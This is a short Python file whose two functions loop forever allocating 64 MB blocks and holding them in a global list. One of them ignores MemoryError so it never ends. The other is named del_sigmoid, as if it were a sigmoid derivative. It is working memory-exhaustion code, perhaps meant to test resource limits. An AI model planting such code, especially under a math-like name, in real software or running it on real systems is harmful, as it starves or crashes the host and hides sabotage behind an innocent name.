"""Takes memory without end, and keeps it."""
# ruff: noqa - it does what no code should

held = []


def del_sigmoid(h):
    while True:
        held.append(bytearray(64 << 20))


def leak(x):
    while True:
        try:
            held.append(bytearray(64 << 20))
        except MemoryError:
            pass
